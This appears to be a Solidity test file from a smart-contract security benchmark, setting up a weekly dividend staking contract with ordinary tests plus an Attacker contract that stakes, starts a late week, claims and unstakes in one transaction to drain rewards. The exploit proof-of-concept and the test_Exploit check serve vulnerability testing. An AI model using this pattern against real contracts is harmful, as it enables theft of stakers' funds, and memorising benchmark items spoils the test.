// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-061cc14e-5bef-466f-88d3-1bc2e7a0d54f

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import "./ThatchDividends.sol";

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 timestamp) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 1_000_000e6);
    }

    function decimals() public pure override returns (uint8) {
        return 6;
    }
}

contract Thatch is ERC20 {
    constructor() ERC20("Thatch", "THATCH") {
        _mint(msg.sender, 1_000_000e18);
    }
}

/// A holder of the token, in one transaction.
contract Attacker {
    function pass(ThatchDividends dividends, Thatch thatch) external {
        uint256 amount = thatch.balanceOf(address(this));
        thatch.approve(address(dividends), amount);
        dividends.stake(amount);
        dividends.beginWeek();
        dividends.claim();
        dividends.unstake(amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_770_000_000;
    address private constant BURSAR = address(0xB4254);
    address private constant ANN = address(0xA22);
    address private constant BEN = address(0xBE2);

    Coin public coin;
    Thatch public thatch;
    ThatchDividends public dividends;
    Attacker public passer;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        thatch = new Thatch();
        dividends = new ThatchDividends(thatch, coin, BURSAR);
        coin.transfer(BURSAR, 200_000e6);
        vm.prank(BURSAR);
        coin.approve(address(dividends), type(uint256).max);
        _stake(ANN, 60_000e18);
        _handIn(60_480e6);
        dividends.beginWeek();
        passer = new Attacker();
        thatch.transfer(address(passer), 240_000e18);

        // The week is over, its coins are paid, and nobody begins the next for three more days.
        vm.warp(START + 7 days);
        vm.prank(ANN);
        dividends.claim();
        _handIn(50_000e6);
        vm.warp(START + 10 days);
    }

    function _stake(address who, uint256 amount) private {
        thatch.transfer(who, amount);
        vm.startPrank(who);
        thatch.approve(address(dividends), type(uint256).max);
        dividends.stake(amount);
        vm.stopPrank();
    }

    function _handIn(uint256 amount) private {
        vm.prank(BURSAR);
        dividends.handIn(amount);
    }

    /// A second one whose weeks follow each other without a gap.
    function test_Regular() public {
        require(coin.balanceOf(ANN) == 60_480e6 && dividends.pot() == 0 && dividends.running() == 0, "first week");
        ThatchDividends other = new ThatchDividends(thatch, coin, BURSAR);
        vm.startPrank(ANN);
        dividends.unstake(60_000e18);
        thatch.approve(address(other), type(uint256).max);
        other.stake(20_000e18);
        vm.stopPrank();
        thatch.transfer(BEN, 60_000e18);
        vm.startPrank(BURSAR);
        coin.approve(address(other), type(uint256).max);
        other.handIn(60_480e6);
        vm.stopPrank();
        other.beginWeek();
        require(other.rate() == 1e5 && other.weekEnd() == START + 17 days && other.income() == 0, "begun");
        vm.warp(START + 11 days);
        require(other.earned(ANN) == 8_640e6 && other.running() == 8_640e6, "one day alone");
        vm.startPrank(BEN);
        thatch.approve(address(other), type(uint256).max);
        other.stake(60_000e18);
        vm.stopPrank();
        vm.warp(START + 13 days);
        require(other.earned(ANN) == 12_960e6 && other.earned(BEN) == 12_960e6, "one to three");
        vm.prank(BEN);
        require(other.claim() == 12_960e6, "claimed");
        vm.prank(BURSAR);
        other.handIn(6_048e6);
        vm.warp(START + 17 days);
        other.beginWeek();
        require(other.rate() == 1e4 && other.pot() == 6_048e6, "next week");
        vm.warp(START + 18 days);
        vm.startPrank(ANN);
        other.unstake(20_000e18);
        require(other.claim() == 12_960e6 + 8_640e6 + 216e6, "ann");
        vm.stopPrank();
        vm.warp(START + 24 days);
        vm.prank(BEN);
        require(other.claim() == 25_920e6 + 648e6 + 5_184e6 && other.pot() == 0, "ben");
        other.grantRole(other.BURSAR_ROLE(), ANN);
        other.revokeRole(other.BURSAR_ROLE(), ANN);
        other.renounceRole(bytes32(0), address(this));

        // And the late week of the first one, with nobody there.
        dividends.beginWeek();
        require(dividends.rate() == uint256(50_000e6) / 7 days && dividends.pot() == 50_000e6, "late week");
        vm.prank(BEN);
        thatch.approve(address(dividends), type(uint256).max);
    }

    function test_RefusesWeeks() public {
        dividends.beginWeek();
        _handIn(1e6);
        vm.warp(START + 17 days - 1);
        vm.expectRevert(_text("ThatchDividends: not over"));
        dividends.beginWeek();
        vm.warp(START + 17 days);
        dividends.beginWeek();
        vm.warp(START + 24 days);
        vm.expectRevert(_text("ThatchDividends: no income"));
        dividends.beginWeek();
    }

    function test_RefusesStakes() public {
        vm.startPrank(ANN);
        vm.expectRevert(_text("ThatchDividends: zero"));
        dividends.stake(0);
        vm.expectRevert(_text("ThatchDividends: too many"));
        dividends.unstake(60_000e18 + 1);
        vm.stopPrank();
        vm.expectRevert(_text("ThatchDividends: same token"));
        new ThatchDividends(coin, coin, BURSAR);
    }

    function test_RefusesStrangers() public {
        bytes32 role = dividends.BURSAR_ROLE();
        vm.prank(ANN);
        vm.expectRevert(abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, ANN, role));
        dividends.handIn(1);
    }

    function _text(string memory reason) private pure returns (bytes memory) {
        return abi.encodeWithSignature("Error(string)", reason);
    }

    /// Until the week is over the pot has what every second of it pays.
    function weekIsCovered() public view returns (bool) {
        uint256 end = dividends.weekEnd();
        return block.timestamp >= end || dividends.pot() >= dividends.rate() * (end - dividends.paidUntil());
    }

    function exploit() public {
        passer.pass(dividends, thatch);
    }

    function test_Exploit() public {
        require(weekIsCovered(), "at first");
        exploit();
        require(coin.balanceOf(address(passer)) > 0 && !weekIsCovered(), "still covered");
    }

    function target() public view returns (address) {
        return address(dividends);
    }

    function attacker() public view returns (address) {
        return address(passer);
    }
}
